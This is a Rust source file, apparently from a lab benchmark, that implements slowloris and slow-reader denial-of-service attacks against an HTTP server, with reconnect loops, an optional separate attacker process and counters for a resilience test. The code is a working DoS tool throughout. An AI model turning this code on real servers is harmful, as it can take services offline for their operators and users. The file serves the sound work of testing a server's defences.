//! The attack: slowloris connections and slow readers, each reconnected
//! whenever the server ends it; run on a tokio runtime of its own, either
//! in the bench's process (the shared set-up) or in a child process of
//! its own on another host of the lab (`--attacker`, the separated
//! set-up), which reports its counts on stdout.

use std::io::{BufRead, Write};
use std::net::SocketAddr;
use std::process::{Child, ChildStdin, Command, Stdio};
use std::sync::atomic::{AtomicI64, AtomicU64, Ordering};
use std::sync::Arc;
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};

use crate::{BIG, DRIBBLE, READER_BYTES, READER_RCVBUF, SMALL};

/// What the attackers have done.
#[derive(Default)]
pub struct AttackCounts {
    /// Attacker connections open now (bench side).
    pub open: AtomicI64,
    /// Connects, first ones and reconnects.
    pub connects: AtomicU64,
    /// Connections the server ended.
    pub closed_by_server: AtomicU64,
    /// Body bytes the slow readers received.
    pub reader_bytes: AtomicU64,
}

/// One slowloris connection, reconnected whenever the server ends it.
async fn slowloris(addr: SocketAddr, start: Duration, c: Arc<AttackCounts>) {
    tokio::time::sleep(start).await;
    let mut buf = [0u8; 512];
    loop {
        let Ok(mut s) = tokio::net::TcpStream::connect(addr).await else {
            tokio::time::sleep(Duration::from_millis(100)).await;
            continue;
        };
        c.connects.fetch_add(1, Ordering::Relaxed);
        c.open.fetch_add(1, Ordering::Relaxed);
        let mut ok = s
            .write_all(format!("GET {SMALL} HTTP/1.1\r\nHost: x\r\nX-a: ").as_bytes())
            .await
            .is_ok();
        let mut next = tokio::time::Instant::now() + DRIBBLE;
        while ok {
            tokio::select! {
                r = s.read(&mut buf) => ok = matches!(r, Ok(n) if n > 0),
                _ = tokio::time::sleep_until(next) => {
                    next += DRIBBLE;
                    ok = s.write_all(b"a").await.is_ok();
                }
            }
        }
        c.open.fetch_sub(1, Ordering::Relaxed);
        c.closed_by_server.fetch_add(1, Ordering::Relaxed);
    }
}

/// One slow reader, reconnected whenever the server ends it.
async fn slow_reader(addr: SocketAddr, start: Duration, c: Arc<AttackCounts>) {
    tokio::time::sleep(start).await;
    let mut buf = [0u8; READER_BYTES];
    loop {
        let s = async {
            let sock = tokio::net::TcpSocket::new_v4()?;
            sock.set_recv_buffer_size(READER_RCVBUF)?;
            let mut s = sock.connect(addr).await?;
            s.write_all(format!("GET {BIG} HTTP/1.1\r\nHost: x\r\n\r\n").as_bytes())
                .await?;
            std::io::Result::Ok(s)
        }
        .await;
        let Ok(mut s) = s else {
            tokio::time::sleep(Duration::from_millis(100)).await;
            continue;
        };
        c.connects.fetch_add(1, Ordering::Relaxed);
        c.open.fetch_add(1, Ordering::Relaxed);
        loop {
            let t = tokio::time::Instant::now();
            match tokio::time::timeout(Duration::from_secs(1), s.read(&mut buf)).await {
                Ok(Ok(0)) | Ok(Err(_)) => break,
                Ok(Ok(n)) => {
                    c.reader_bytes.fetch_add(n as u64, Ordering::Relaxed);
                    tokio::time::sleep_until(t + Duration::from_secs(1)).await;
                }
                Err(_) => {}
            }
        }
        c.open.fetch_sub(1, Ordering::Relaxed);
        c.closed_by_server.fetch_add(1, Ordering::Relaxed);
    }
}

/// The attack: its own runtime (one worker thread); dropping it closes
/// every attacker connection.
pub struct Attack {
    rt: tokio::runtime::Runtime,
    pub counts: Arc<AttackCounts>,
}

impl Attack {
    pub fn start(
        addr: SocketAddr,
        slowloris_n: usize,
        readers_n: usize,
        spread: Duration,
        nice: i32,
    ) -> Self {
        let rt = tokio::runtime::Builder::new_multi_thread()
            .worker_threads(1)
            .on_thread_start(move || {
                if nice != 0 {
                    // SAFETY: no preconditions; on Linux the nice value is
                    // per thread, and who = 0 is the calling thread
                    unsafe { libc::setpriority(libc::PRIO_PROCESS, 0, nice) };
                }
            })
            .enable_all()
            .build()
            .expect("attack runtime");
        let counts = Arc::new(AttackCounts::default());
        let total = (slowloris_n + readers_n).max(1);
        // interleaved, evenly spread starts
        for i in 0..total {
            let start = spread.mul_f64(i as f64 / total as f64);
            let c = counts.clone();
            if i * readers_n / total != (i + 1) * readers_n / total {
                rt.spawn(slow_reader(addr, start, c));
            } else {
                rt.spawn(slowloris(addr, start, c));
            }
        }
        Self { rt, counts }
    }

    pub fn stop(self) {
        self.rt.shutdown_timeout(Duration::from_secs(5));
    }
}

/// The attack in a child process: `main` runs [`child_main`] when its
/// first argument is `--attacker`.
pub struct RemoteAttack {
    child: Child,
    stdin: Option<ChildStdin>,
    /// The counts the child last reported.
    pub counts: Arc<AttackCounts>,
    reader: Option<std::thread::JoinHandle<()>>,
}

impl RemoteAttack {
    /// Starts `cmd` (this bench's executable, wrapped as the set-up
    /// needs: a namespace, CPUs) with the attack's arguments.
    pub fn start(
        mut cmd: Command,
        addr: SocketAddr,
        slowloris_n: usize,
        readers_n: usize,
        spread: Duration,
        nice: i32,
    ) -> Self {
        cmd.args(["--attacker", &addr.to_string()])
            .args([slowloris_n, readers_n, spread.as_millis() as usize].map(|v| v.to_string()))
            .arg(nice.to_string())
            .stdin(Stdio::piped())
            .stdout(Stdio::piped());
        let mut child = cmd.spawn().expect("start the attacker process");
        let stdin = child.stdin.take();
        let out = child.stdout.take().expect("attacker stdout");
        let counts = Arc::new(AttackCounts::default());
        let c = counts.clone();
        let reader = std::thread::spawn(move || {
            for line in std::io::BufReader::new(out).lines() {
                let Ok(line) = line else { break };
                let v: Vec<i64> = line
                    .split_whitespace()
                    .filter_map(|w| w.parse().ok())
                    .collect();
                if let [open, connects, closed, bytes] = v[..] {
                    c.open.store(open, Ordering::Relaxed);
                    c.connects.store(connects as u64, Ordering::Relaxed);
                    c.closed_by_server.store(closed as u64, Ordering::Relaxed);
                    c.reader_bytes.store(bytes as u64, Ordering::Relaxed);
                }
            }
        });
        Self {
            child,
            stdin,
            counts,
            reader: Some(reader),
        }
    }

    /// The attacker process's PID.
    pub fn pid(&self) -> u32 {
        self.child.id()
    }

    /// Closes its stdin (it ends and so closes every connection); killed
    /// by its PID if it has not ended within 10 s.
    pub fn stop(mut self) {
        drop(self.stdin.take());
        let t = std::time::Instant::now();
        while t.elapsed() < Duration::from_secs(10) {
            if matches!(self.child.try_wait(), Ok(Some(_))) {
                break;
            }
            std::thread::sleep(Duration::from_millis(50));
        }
        // SAFETY: signalling the child we started, by its PID (a no-op error if it ended)
        unsafe { libc::kill(self.child.id() as i32, libc::SIGKILL) };
        let _ = self.child.wait();
        if let Some(r) = self.reader.take() {
            let _ = r.join();
        }
    }
}

/// The attacker process: `--attacker ADDR SLOWLORIS READERS SPREAD_MS NICE`.
/// Prints `open connects closed_by_server reader_bytes` every 100 ms and
/// ends when its stdin closes.
pub fn child_main(args: &[String]) {
    let bad = || panic!("usage: --attacker ADDR SLOWLORIS READERS SPREAD_MS NICE, got {args:?}");
    let [addr, sl, rd, spread, nice] = args else {
        bad()
    };
    let addr: SocketAddr = addr.parse().unwrap_or_else(|_| bad());
    let num = |s: &String| s.parse::<usize>().unwrap_or_else(|_| bad());
    vodlab_testkit::raise_nofile();
    let attack = Attack::start(
        addr,
        num(sl),
        num(rd),
        Duration::from_millis(num(spread) as u64),
        nice.parse().unwrap_or_else(|_| bad()),
    );
    let done = Arc::new(std::sync::atomic::AtomicBool::new(false));
    let d = done.clone();
    std::thread::spawn(move || {
        // EOF (or an error) on stdin: the bench wants the attack to end
        let mut sink = String::new();
        while std::io::stdin().read_line(&mut sink).is_ok_and(|n| n > 0) {
            sink.clear();
        }
        d.store(true, Ordering::Relaxed);
    });
    let mut out = std::io::stdout().lock();
    while !done.load(Ordering::Relaxed) {
        let c = &attack.counts;
        let line = format!(
            "{} {} {} {}\n",
            c.open.load(Ordering::Relaxed),
            c.connects.load(Ordering::Relaxed),
            c.closed_by_server.load(Ordering::Relaxed),
            c.reader_bytes.load(Ordering::Relaxed)
        );
        if out
            .write_all(line.as_bytes())
            .and_then(|_| out.flush())
            .is_err()
        {
            break;
        }
        std::thread::sleep(Duration::from_millis(100));
    }
    attack.stop();
}
